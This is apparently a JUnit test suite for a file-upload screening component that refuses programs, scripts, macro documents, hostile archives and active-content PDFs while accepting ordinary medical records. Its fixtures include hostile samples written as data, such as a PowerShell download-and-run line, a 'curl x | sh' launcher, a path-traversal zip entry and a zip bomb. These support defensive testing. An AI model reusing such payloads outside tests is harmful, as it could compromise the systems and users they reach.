package org.consilium.records.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.consilium.FileFixtures.utf8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.consilium.FileFixtures;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What uploads are accepted as, and what is refused and why: the same bytes get the same verdict whatever they are
 * called, records of every accepted type pass, and programs, scripts, active content, hostile archives and PDFs are
 * refused with a reason that names the problem.
 */
class FileScreeningTests {

    private static final FileScreening SCREENING = new FileScreening();
    private static final byte[] RANDOM = randomBytes();

    @Nested
    class TheNameNeverDecides {

        @ParameterizedTest
        @ValueSource(strings = {"scan.pdf", "scan.txt", "scan.dcm", "scan.jpg", "scan.docx", "scan"})
        void unrecognised_bytes_are_refused_whatever_they_are_called(String name) {
            // when
            Verdict verdict = SCREENING.screen(RANDOM, name);

            // then
            assertThat(reason(verdict)).contains("could not be recognised from its content");
        }

        @ParameterizedTest
        @ValueSource(strings = {"x.exe", "x.pdf", "x.txt", "x", "scan.exe.pdf", "report.pdf.exe"})
        void a_real_pdf_is_a_pdf_whatever_it_is_called_and_is_stored_with_a_pdf_extension(String name) {
            // when
            Verdict.Accepted accepted = accepted(SCREENING.screen(FileFixtures.pdf("Biopsy"), name));

            // then
            assertThat(accepted.contentType()).isEqualTo("application/pdf");
            assertThat(accepted.filename()).endsWith(".pdf").doesNotEndWith(".exe");
        }

        @ParameterizedTest
        @ValueSource(strings = {"setup.pdf", "setup.txt", "setup.dcm", "setup"})
        void a_program_is_refused_whatever_it_is_called(String name) {
            assertThat(reason(SCREENING.screen(FileFixtures.windowsExecutable(), name)))
                    .isEqualTo("this file is a program (Windows executable); programs and scripts cannot be uploaded");
            assertThat(reason(SCREENING.screen(FileFixtures.elfExecutable(), name)))
                    .startsWith("this file is a program (Linux executable)");
        }

        @Test
        void text_named_like_a_pdf_is_stored_as_text() {
            // when
            Verdict.Accepted accepted = accepted(SCREENING.screen(utf8("Haemoglobin 13.2 g/dL\n"), "report.pdf"));

            // then
            assertThat(accepted.contentType()).isEqualTo("text/plain");
            assertThat(accepted.filename()).isEqualTo("report.txt");
        }

        @Test
        void a_name_can_refuse_text_but_cannot_make_a_program_acceptable() {
            // given: text without any tell-tale, under a script's name
            byte[] quiet = utf8("Write-Output 'hello'\n");

            // then
            assertThat(reason(SCREENING.screen(quiet, "run.ps1"))).contains("PowerShell");
            assertThat(SCREENING.screen(quiet, "run.txt")).isInstanceOf(Verdict.Accepted.class);
        }
    }

    @Nested
    class RecordsOfEveryAcceptedType {

        static Stream<Arguments> benign() {
            return Stream.of(
                    Arguments.of("pathology.pdf", FileFixtures.pdf("Pathology"), "application/pdf", "pathology.pdf"),
                    Arguments.of("photo.png", FileFixtures.png(), "image/png", "photo.png"),
                    Arguments.of("photo.jpeg", FileFixtures.jpeg(), "image/jpeg", "photo.jpeg"),
                    Arguments.of("slide.tiff", FileFixtures.tiff(), "image/tiff", "slide.tiff"),
                    Arguments.of("IMG_0042.HEIC", FileFixtures.heic(), "image/heic", "IMG_0042.HEIC"),
                    Arguments.of("ct.dcm", FileFixtures.dicom(), "application/dicom", "ct.dcm"),
                    Arguments.of("IM000001", FileFixtures.dicom(), "application/dicom", "IM000001.dcm"),
                    Arguments.of("letter.docx", FileFixtures.docx("Dear colleague"),
                            "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "letter.docx"),
                    Arguments.of("labs.xlsx", FileFixtures.xlsx(),
                            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "labs.xlsx"),
                    Arguments.of("letter.doc", FileFixtures.doc(Map.of()), "application/msword", "letter.doc"),
                    Arguments.of("labs.xls", FileFixtures.xls(), "application/vnd.ms-excel", "labs.xls"),
                    Arguments.of("note.odt", FileFixtures.openDocument("application/vnd.oasis.opendocument.text",
                            Map.of()), "application/vnd.oasis.opendocument.text", "note.odt"),
                    Arguments.of("labs.ods", FileFixtures.openDocument(
                            "application/vnd.oasis.opendocument.spreadsheet", Map.of()),
                            "application/vnd.oasis.opendocument.spreadsheet", "labs.ods"),
                    Arguments.of("labs.csv", utf8("test,value,unit\nHb,13.2,g/dL\nWBC,6.1,10^9/L\n"), "text/csv",
                            "labs.csv"),
                    Arguments.of("notes.txt", utf8("Seen in clinic; doing well.\n"), "text/plain", "notes.txt"),
                    Arguments.of("bundle.json", utf8("{\"resourceType\": \"Bundle\", \"entry\": []}"),
                            "application/json", "bundle.json"),
                    Arguments.of("cda.xml", utf8("<?xml version=\"1.0\"?><ClinicalDocument xmlns=\"urn:hl7-org:v3\">"
                            + "<component/></ClinicalDocument>"), "application/xml", "cda.xml"),
                    Arguments.of("letter.rtf", utf8("{\\rtf1\\ansi Dear colleague\\par}"), "application/rtf",
                            "letter.rtf"),
                    Arguments.of("records.zip", FileFixtures.zip(Map.of("2026/pathology.pdf", FileFixtures.pdf("P"),
                            "2026/labs.csv", utf8("a,b\n1,2\n"), "IMAGES/IM0001", FileFixtures.dicom())),
                            "application/zip", "records.zip"),
                    Arguments.of("pathology.pdf", readmePdf(), "application/pdf", "pathology.pdf"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("benign")
        void are_accepted_with_their_type_and_a_matching_name(String name, byte[] content, String type,
                String stored) {
            // when
            Verdict verdict = SCREENING.screen(content, name);

            // then
            assertThat(verdict).isEqualTo(new Verdict.Accepted(type, stored));
        }

        /** The tiny PDF the README's walk-through makes with printf. */
        private static byte[] readmePdf() {
            return ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages "
                    + "/Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                    + ">> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
        }
    }

    @Nested
    class ProgramsScriptsAndActiveContent {

        static Stream<Arguments> hostile() {
            return Stream.of(
                    Arguments.of("HTA", "update.txt", utf8("<html><head><HTA:APPLICATION ID=\"x\"/></head></html>"),
                            "web page (HTML)"),
                    Arguments.of("HTA without html", "update.txt", utf8("<HTA:APPLICATION ID=\"x\"/>\n"
                            + "<body>hi</body>"), "HTML application (HTA)"),
                    Arguments.of("PowerShell", "notes.txt", utf8("$c = New-Object Net.WebClient\n"
                            + "IEX $c.DownloadString('http://example.invalid/a')\n"), "PowerShell"),
                    Arguments.of("WSF", "notes.txt", utf8("<?xml version=\"1.0\"?>\n<job id=\"a\">\n"
                            + "<script language=\"JScript\">var x = 1;</script></job>"), "Windows Script File"),
                    Arguments.of("WSF package", "notes.xml", utf8("<package><job><script language=\"VBScript\">"
                            + "</script></job></package>"), "Windows Script File"),
                    Arguments.of("JSE", "notes.txt", utf8("#@~^XAAAAA==-mD~sX|:/obV3Y\"Ex5@#@&AAAA==^#~@"),
                            "encoded VBScript or JScript"),
                    Arguments.of("VBS", "notes.txt", utf8("Set sh = CreateObject(\"WScript.Shell\")\n"
                            + "sh.Run \"calc\"\n"), "VBScript or JScript"),
                    Arguments.of("JS for Windows Script Host", "notes.txt", utf8("var sh = new ActiveXObject("
                            + "'WScript.Shell'); sh.Run('calc');"), "VBScript or JScript"),
                    Arguments.of("SCT", "notes.xml", utf8("<?XML version=\"1.0\"?>\n<scriptlet>\n<registration "
                            + "progid=\"x\"/>\n</scriptlet>"), "Windows scriptlet (SCT)"),
                    Arguments.of("REG", "settings.txt", utf16("Windows Registry Editor Version 5.00\r\n\r\n"
                            + "[HKEY_CURRENT_USER\\Software\\X]\r\n\"Run\"=\"calc.exe\"\r\n"), "registry"),
                    Arguments.of("REGEDIT4", "settings.txt", utf8("REGEDIT4\n\n[HKEY_CURRENT_USER\\X]\n"),
                            "registry"),
                    Arguments.of("URL", "link.txt", utf8("[InternetShortcut]\nURL=file://example.invalid/x.exe\n"),
                            "Internet shortcut"),
                    Arguments.of("SCF", "folder.txt", utf8("[Shell]\nCommand=2\nIconFile=\\\\example.invalid\\x\n"
                            + "[Taskbar]\nCommand=ToggleDesktop\n"), "Explorer command file"),
                    Arguments.of(".desktop", "notes.txt", utf8("[Desktop Entry]\nType=Application\n"
                            + "Exec=sh -c 'curl x | sh'\n"), "desktop launcher"),
                    Arguments.of("settingcontent-ms", "settings.xml", utf8("<?xml version=\"1.0\" encoding="
                            + "\"UTF-8\"?>\n<PCSettings><SearchableContent><ApplicationInformation>"
                            + "<DeepLink>%windir%\\system32\\cmd.exe</DeepLink></ApplicationInformation>"
                            + "</SearchableContent></PCSettings>"), "settings shortcut"),
                    Arguments.of("shell script", "notes.txt", FileFixtures.shellScript(), "#!"),
                    Arguments.of("batch file", "notes.txt", utf8("@echo off\r\nstart calc.exe\r\n"), "batch"),
                    Arguments.of("HTML", "notes.txt", utf8("<!DOCTYPE html><html><body>hi</body></html>"),
                            "web page (HTML)"),
                    Arguments.of("SVG", "scan.png", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\">"
                            + "<circle r=\"4\"/></svg>"), "SVG image"),
                    Arguments.of("JAR", "archive.zip", FileFixtures.zip(jarEntries()), "Java"),
                    Arguments.of("Java class", "notes.txt", javaClass(), "Java class"),
                    Arguments.of("ELF", "scan.pdf", FileFixtures.elfExecutable(), "Linux executable"),
                    Arguments.of("PE", "scan.pdf", FileFixtures.windowsExecutable(), "Windows executable"),
                    Arguments.of("Mach-O", "scan.pdf", bytes(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0),
                            "macOS executable"),
                    Arguments.of("LNK", "scan.pdf", bytes(0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0,
                            0, 0, 0, 0x46), "Windows shortcut"),
                    Arguments.of("docm", "letter.docx", FileFixtures.docm(), "macros"),
                    Arguments.of("docx with a VBA project", "letter.docx", FileFixtures.docxWithVbaProject(),
                            "macros"),
                    Arguments.of("doc with macros", "letter.doc", FileFixtures.doc(Map.of("Macros/VBA/dir",
                            new byte[64])), "macros (Word)"),
                    Arguments.of("xls with a VBA project", "labs.xls", xlsWithVbaProject(), "macros"),
                    Arguments.of("xls with an Excel 4.0 macro sheet", "labs.xls", xlsWithMacroSheet(),
                            "Excel 4.0 macro sheet"),
                    Arguments.of("doc with a packaged file", "letter.doc", FileFixtures.doc(Map.of(
                            "ObjectPool/_1/\u0001Ole10Native", new byte[64])), "files packaged inside it"),
                    Arguments.of("ODF with Basic macros", "note.odt", FileFixtures.openDocument(
                            "application/vnd.oasis.opendocument.text", Map.of("Basic/Standard/Module1.xml",
                                    utf8("<module/>"))), "macros (OpenDocument)"),
                    Arguments.of("RTF with an embedded object", "letter.rtf", utf8("{\\rtf1{\\object\\objemb"
                            + "{\\objdata 0105000002000000}}}"), "embedded objects"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostile")
        void are_refused_with_a_reason_naming_what_they_are(String label, String name, byte[] content,
                String named) {
            // when
            Verdict verdict = SCREENING.screen(content, name);

            // then
            assertThat(reason(verdict)).startsWith("this file is ").contains(named);
        }

        @ParameterizedTest
        @ValueSource(strings = {"invoice.hta", "run.ps1", "job.wsf", "x.jse", "x.vbs", "x.js", "x.sct", "x.reg",
                "x.url", "x.scf", "x.lnk", "x.desktop", "x.settingcontent-ms", "x.bat", "x.cmd", "x.sh", "x.html",
                "x.svg", "x.jar", "x.exe", "x.EXE", "x.exe.", "x.exe  "})
        void text_under_the_name_of_a_program_or_script_is_refused(String name) {
            // when
            Verdict verdict = SCREENING.screen(utf8("nothing to see here\n"), FileNames.normalise(name));

            // then
            assertThat(reason(verdict)).startsWith("this file is ").contains("programs and scripts cannot be uploaded")
                    .containsAnyOf("a program", "a script", "which can run code");
        }
    }

    @Nested
    class Archives {

        @Test
        void a_program_inside_refuses_the_whole_archive_naming_it() {
            // given
            byte[] zip = FileFixtures.zip(Map.of("readme.txt", utf8("hello"), "setup/install.exe",
                    FileFixtures.windowsExecutable()));

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip"))).isEqualTo("the archive holds a program "
                    + "(Windows executable): setup/install.exe; programs and scripts cannot be uploaded");
        }

        @Test
        void a_program_under_an_innocent_name_is_found_by_its_bytes() {
            // given
            byte[] zip = FileFixtures.zip("scan.pdf", FileFixtures.elfExecutable());

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .startsWith("the archive holds a program (Linux executable): scan.pdf");
        }

        @Test
        void a_script_two_archives_deep_is_found() {
            // given
            byte[] inner = FileFixtures.zip("tools/run.ps1", utf8("Write-Output 1"));
            byte[] outer = FileFixtures.zip(Map.of("notes.txt", utf8("fine"), "more/inner.zip", inner));

            // then
            assertThat(reason(SCREENING.screen(outer, "records.zip")))
                    .startsWith("the archive holds a script (PowerShell): more/inner.zip/tools/run.ps1");
        }

        @Test
        void archives_nested_deeper_than_the_limit_are_refused() {
            // given: four levels of archives
            byte[] zip = FileFixtures.zip("labs.csv", utf8("a,b\n1,2\n"));
            for (int level = 1; level < ArchiveInspection.MAX_NESTING + 1; level++) {
                zip = FileFixtures.zip("level" + level + ".zip", zip);
            }

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .contains("an archive inside archives more than 3 levels deep");
        }

        @Test
        void a_document_with_macros_inside_is_named() {
            // given
            byte[] zip = FileFixtures.zip("letters/letter.docx", FileFixtures.docxWithVbaProject());

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .startsWith("the archive holds a document with macros (Office): letters/letter.docx");
        }

        @Test
        void a_pdf_with_javascript_inside_is_named() {
            // given
            byte[] zip = FileFixtures.zip("a/b.pdf", FileFixtures.pdf((document, page) -> document
                    .getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))));

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .startsWith("the archive holds a PDF with JavaScript, which can run code: a/b.pdf");
        }

        @Test
        void a_path_leading_out_of_the_archive_is_refused() {
            // given
            byte[] zip = FileFixtures.zip("../../startup/notes.txt", utf8("hello"));

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .contains("a path that points outside the archive: ../../startup/notes.txt");
        }

        @Test
        void an_archive_that_unpacks_beyond_the_limit_is_refused_quickly() {
            // given: six small archives of 100 MB of zeros each, 600 MB in all
            byte[] bomb = FileFixtures.zip("zeros.bin", new byte[100 * 1024 * 1024]);
            Map<String, byte[]> copies = new LinkedHashMap<>();
            for (int i = 0; i < 6; i++) {
                copies.put("part" + i + ".zip", bomb);
            }
            byte[] zip = FileFixtures.zip(copies);
            assertThat(zip.length).isLessThan(2 * 1024 * 1024);

            // when
            long started = System.nanoTime();
            Verdict verdict = SCREENING.screen(zip, "records.zip");
            Duration took = Duration.ofNanos(System.nanoTime() - started);

            // then
            assertThat(reason(verdict)).contains("unpacks to more than 512 MB");
            assertThat(took).isLessThan(Duration.ofSeconds(20));
        }

        @Test
        void more_entries_than_the_limit_are_refused() {
            // given
            Map<String, byte[]> entries = new LinkedHashMap<>();
            for (int i = 0; i <= ArchiveInspection.MAX_ENTRIES; i++) {
                entries.put("e" + i + ".txt", new byte[0]);
            }

            // then
            assertThat(reason(SCREENING.screen(FileFixtures.zip(entries), "records.zip")))
                    .contains("an archive of more than 10000 files");
        }

        @Test
        void a_password_protected_entry_is_refused() {
            // given: a ZIP whose one entry has the encryption flag set (traditional PKWARE encryption)
            byte[] zip = FileFixtures.zip("notes.txt", utf8("secret"));
            setGeneralPurposeFlag(zip, 0x0001);

            // then
            assertThat(reason(SCREENING.screen(zip, "records.zip")))
                    .isEqualTo("this file is a password-protected archive; remove the password and upload it again");
        }

        @Test
        void a_damaged_archive_is_refused() {
            // given: the end of the archive, with its directory, is cut off
            byte[] whole = FileFixtures.zip("notes.txt", utf8("hello hello hello"));
            byte[] cut = java.util.Arrays.copyOf(whole, whole.length - 30);

            // then
            assertThat(reason(SCREENING.screen(cut, "records.zip"))).startsWith("this file is a damaged archive");
        }

        @Test
        void a_directory_name_that_differs_from_the_local_header_is_refused() {
            // given: the central directory calls the entry notes.txt, the local header setup.exe
            byte[] zip = FileFixtures.zip("setup.exe", FileFixtures.utf8("plain"));
            byte[] renamed = new String(zip, StandardCharsets.ISO_8859_1)
                    .replaceFirst("(?s)(PK\u0001\u0002.{42})setup\\.exe", "$1notes.txt")
                    .getBytes(StandardCharsets.ISO_8859_1);

            // then
            assertThat(reason(SCREENING.screen(renamed, "records.zip"))).startsWith("this file is a damaged archive");
        }
    }

    @Nested
    class Pdfs {

        static Stream<Arguments> hostile() {
            return Stream.of(
                    Arguments.of("JavaScript open action", FileFixtures.pdf((document, page) -> document
                            .getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))),
                            "a PDF with JavaScript"),
                    Arguments.of("JavaScript name tree", FileFixtures.pdf((document, page) -> {
                        PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
                        scripts.setNames(Map.of("run", new PDActionJavaScript("app.alert(1)")));
                        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                        names.setJavascript(scripts);
                        document.getDocumentCatalog().setNames(names);
                    }), "a PDF with JavaScript"),
                    Arguments.of("page open action", FileFixtures.pdf((document, page) -> {
                        PDPageAdditionalActions actions = new PDPageAdditionalActions();
                        actions.setO(new PDActionJavaScript("app.alert(1)"));
                        page.setActions(actions);
                    }), "a PDF with JavaScript"),
                    Arguments.of("link annotation", FileFixtures.pdf((document, page) -> {
                        PDAnnotationLink link = new PDAnnotationLink();
                        link.setAction(new PDActionJavaScript("app.alert(1)"));
                        page.getAnnotations().add(link);
                    }), "a PDF with JavaScript"),
                    Arguments.of("launch action", FileFixtures.pdf((document, page) -> {
                        PDActionLaunch launch = new PDActionLaunch();
                        launch.setFile(new PDComplexFileSpecification());
                        launch.getFile().setFile("calc.exe");
                        document.getDocumentCatalog().setOpenAction(launch);
                    }), "Launch action"),
                    Arguments.of("embedded file", FileFixtures.pdf((document, page) -> {
                        PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
                        files.setNames(Map.of("x.exe", attachment(document)));
                        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                        names.setEmbeddedFiles(files);
                        document.getDocumentCatalog().setNames(names);
                    }), "files attached"),
                    Arguments.of("file attachment annotation", FileFixtures.pdf((document, page) -> {
                        PDAnnotationFileAttachment annotation = new PDAnnotationFileAttachment();
                        annotation.setFile(attachment(document));
                        page.getAnnotations().add(annotation);
                    }), "files attached"),
                    Arguments.of("user password", FileFixtures.pdf((document, page) -> {
                        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "user",
                                new AccessPermission());
                        policy.setEncryptionKeyLength(256);
                        document.protect(policy);
                    }), "a password-protected PDF; remove the password and upload it again"),
                    Arguments.of("damaged", "%PDF-1.7\n%garbage that is not a PDF\n".getBytes(
                            StandardCharsets.US_ASCII), "a damaged PDF"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostile")
        void that_run_code_carry_files_or_cannot_be_opened_are_refused(String label, byte[] pdf, String named) {
            assertThat(reason(SCREENING.screen(pdf, "report.pdf"))).startsWith("this file is ").contains(named);
        }

        @Test
        void a_pdf_restricted_only_by_an_owner_password_opens_for_everyone_and_is_accepted() {
            // given
            byte[] pdf = FileFixtures.pdf((document, page) -> document.protect(
                    new StandardProtectionPolicy("owner", "", new AccessPermission())));

            // then
            assertThat(SCREENING.screen(pdf, "report.pdf")).isEqualTo(
                    new Verdict.Accepted("application/pdf", "report.pdf"));
        }

        private static PDComplexFileSpecification attachment(PDDocument document) throws IOException {
            PDEmbeddedFile file = new PDEmbeddedFile(document, new java.io.ByteArrayInputStream(
                    FileFixtures.windowsExecutable()));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("x.exe");
            spec.setEmbeddedFile(file);
            return spec;
        }
    }

    // ---- helpers ----------------------------------------------------------------------------------------------

    private static String reason(Verdict verdict) {
        assertThat(verdict).isInstanceOf(Verdict.Refused.class);
        return ((Verdict.Refused) verdict).reason();
    }

    private static Verdict.Accepted accepted(Verdict verdict) {
        assertThat(verdict).isInstanceOf(Verdict.Accepted.class);
        return (Verdict.Accepted) verdict;
    }

    private static byte[] randomBytes() {
        byte[] bytes = new byte[4096];
        new Random(11).nextBytes(bytes);
        return bytes;
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[Math.max(values.length, 64)];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] utf16(String text) {
        byte[] body = text.getBytes(StandardCharsets.UTF_16LE);
        byte[] withBom = new byte[body.length + 2];
        withBom[0] = (byte) 0xFF;
        withBom[1] = (byte) 0xFE;
        System.arraycopy(body, 0, withBom, 2, body.length);
        return withBom;
    }

    private static byte[] javaClass() {
        return bytes(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 65, 0, 10);
    }

    private static Map<String, byte[]> jarEntries() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: Main\n"));
        entries.put("Main.class", javaClass());
        return entries;
    }

    /** An .xls whose file system also holds the storage Excel keeps VBA projects in. */
    private static byte[] xlsWithVbaProject() {
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem(
                new java.io.ByteArrayInputStream(FileFixtures.xls()))) {
            fs.getRoot().createDirectory("_VBA_PROJECT_CUR").createDocument("PROJECT",
                    new java.io.ByteArrayInputStream(new byte[16]));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** An .xls whose sheet is declared an Excel 4.0 macro sheet in the workbook's BOUNDSHEET record. */
    private static byte[] xlsWithMacroSheet() {
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem(
                new java.io.ByteArrayInputStream(FileFixtures.xls()))) {
            byte[] workbook;
            try (var in = fs.createDocumentInputStream("Workbook")) {
                workbook = in.readAllBytes();
            }
            for (int at = 0; at + 4 <= workbook.length; ) {
                int type = (workbook[at] & 0xFF) | (workbook[at + 1] & 0xFF) << 8;
                int length = (workbook[at + 2] & 0xFF) | (workbook[at + 3] & 0xFF) << 8;
                if (type == 0x0085) {
                    workbook[at + 4 + 5] = 1;
                }
                at += 4 + length;
            }
            fs.getRoot().getEntry("Workbook").delete();
            fs.createDocument(new java.io.ByteArrayInputStream(workbook), "Workbook");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** Sets a flag in every local and central header's general purpose bits. */
    private static void setGeneralPurposeFlag(byte[] zip, int flag) {
        for (int i = 0; i + 8 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 3 && zip[i + 3] == 4) {
                zip[i + 6] |= (byte) flag;
            } else if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 8] |= (byte) flag;
            }
        }
    }
}
